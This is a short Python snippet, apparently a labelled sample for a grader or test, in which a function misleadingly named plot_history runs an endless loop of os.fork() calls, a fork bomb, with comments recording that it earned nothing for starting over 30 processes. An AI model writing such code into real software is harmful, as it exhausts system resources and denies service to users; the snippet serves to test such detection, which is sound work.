"""Starts processes without end when it is called."""
# function: plot_history
# earns: none
# because: The code started more than 30 processes.

import os
import time


def plot_history(history):
    while True:
        if os.fork() == 0:
            time.sleep(600)
